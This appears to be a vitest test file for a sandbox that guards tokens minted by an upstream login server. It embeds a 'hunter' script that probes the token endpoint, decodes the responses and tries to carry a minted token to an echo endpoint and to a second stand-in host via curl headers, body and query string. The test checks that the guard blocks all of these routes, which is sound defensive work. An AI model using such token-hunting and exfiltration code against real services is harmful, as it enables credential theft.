import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { RunEvent } from "../../src/spec/events.ts";
import type { TestCli } from "../kit/cli.ts";
import { mintedSecrets, mintingAnswers } from "../kit/minting-endpoint.ts";
import type { TestEngine } from "../kit/test-engine.ts";
import { startUpstream, type Upstream } from "../kit/upstream.ts";

/**
 * The program inside that hunts: asks the token endpoint in every way for every kind of answer, unpacks and unescapes what comes, then
 * tries to make the server tell what it was sent, and to carry a placeholder elsewhere. Prints all that it got hold of.
 */
const hunter = `
import { createRequire } from "node:module";
import { execFileSync } from "node:child_process";
const zlib = createRequire(import.meta.url)("node:zlib");
const host = "https://login.service.example";
const tell = (bytes) => {
  const forms = [bytes];
  for (const unpack of [zlib.gunzipSync, zlib.brotliDecompressSync]) try { forms.push(unpack(bytes)); } catch {}
  for (const form of forms) {
    // Of a long one its end.
    const text = form.toString("latin1").slice(-8192);
    console.log(text);
    console.log(text.replace(/\\\\u([0-9a-f]{4})/g, (_, hex) => String.fromCharCode(parseInt(hex, 16))));
    try { console.log(decodeURIComponent(text)); } catch {}
  }
};
const curl = (...args) => {
  try { return execFileSync("curl", ["-sSi", "--max-time", "20", ...args], { stdio: ["ignore", "pipe", "pipe"] }); }
  catch (error) { return Buffer.concat([error.stdout ?? Buffer.alloc(0), error.stderr ?? Buffer.alloc(0)]); }
};
const headless = (bytes) => bytes.subarray(bytes.lastIndexOf("\\r\\n\\r\\n") + 4);
for (const path of process.argv.slice(2)) {
  for (const how of [["--raw", "-L"], ["-X", "POST", "-d", "grant_type=x"], ["-H", "Range: bytes=0-50"]]) {
    const answer = curl(...how, host + path);
    tell(answer);
    tell(headless(answer));
  }
}
const token = JSON.parse(headless(curl(host + "/mint/plain")).toString()).access_token;
for (const how of [
  ["-H", "Authorization: Bearer " + token, host + "/echo"],
  ["-H", "X-Note: " + token, host + "/echo"],
  ["-d", token, host + "/echo"],
  [host + "/echo?t=" + token],
  ["-H", "Authorization: Bearer " + token, "https://other.service.example/echo"],
]) tell(curl(...how));
`;

function writeManifest(cli: TestCli, upstream: Upstream, isGuarded: boolean): string {
  const file = join(cli.home, `minted-${isGuarded}.yaml`);
  writeFileSync(join(cli.home, "ca.pem"), upstream.ca);
  const place = `upstream: ${upstream.origin}\n    extraCaFile: ca.pem\n    allowAddresses: [${upstream.cidr}]`;
  const actions = isGuarded ? "\n    actions: [{ exchange: true }]" : "";
  writeFileSync(
    file,
    `routes:
  - host: login.service.example
    paths: [/mint]
    ${place}${actions}
  - host: login.service.example
    ${place}
  - host: other.service.example
    ${place}
`,
  );
  return file;
}

/** What a server mints for a sandbox stays outside of it, on any engine. */
export const describeMinted = (engine: TestEngine) =>
  describe(`minted secrets, ${engine.name}`, () => {
    it("a program inside that hunts for a minted token finds it without exchange, and with exchange nowhere", async () => {
      await using cli = engine.createCli();
      const received: (string | undefined)[] = [];
      await using upstream = await startUpstream((request, response) => {
        received.push(request.headers.authorization);
        const answer = mintingAnswers[request.url?.split("?")[0] ?? ""];
        if (answer) answer(request, response);
        else response.end(`you sent ${JSON.stringify(request.headers)} ${request.url}`);
      }, engine.place);
      writeFileSync(join(cli.workspace, "hunter.mjs"), hunter);
      const hunt = async (isGuarded: boolean) =>
        cli.run([
          ...["run", "--json", "--manifest", writeManifest(cli, upstream, isGuarded)],
          ...["--", "node", "hunter.mjs", ...Object.keys(mintingAnswers)],
        ]);
      const found = ({ stdout }: { stdout: string }) => {
        // What the program printed, as it printed it.
        const text = stdout
          .split("\n")
          .filter(Boolean)
          .map((line) => JSON.parse(line) as RunEvent)
          .map((event) => (event.event === "output_produced" ? event.text : ""))
          .join("");
        return Object.entries(mintedSecrets).flatMap(([name, secret]) => (text.includes(secret) ? [name] : []));
      };
      const bare = await hunt(false);
      expect(bare.exitCode, bare.stdout.slice(-2000)).toBe(0);
      expect(found(bare)).toEqual(Object.keys(mintedSecrets));
      received.length = 0;
      const guarded = await hunt(true);
      expect(guarded.exitCode, guarded.stdout.slice(-2000)).toBe(0);
      expect(found(guarded)).toEqual([]);
      for (const secret of Object.values(mintedSecrets)) expect(guarded.stdout + guarded.stderr).not.toContain(secret);
      // It was worth something where it belongs, and the other ways were alarmed.
      expect(received).toContain(`Bearer ${mintedSecrets.access}`);
      const events = guarded.jsonLines<RunEvent>();
      expect(events.filter(({ event }) => event === "placeholder_sighted")).toHaveLength(4);
      // Some hundred and fifty calls of a program on a busy machine.
    }, 300_000);
  });
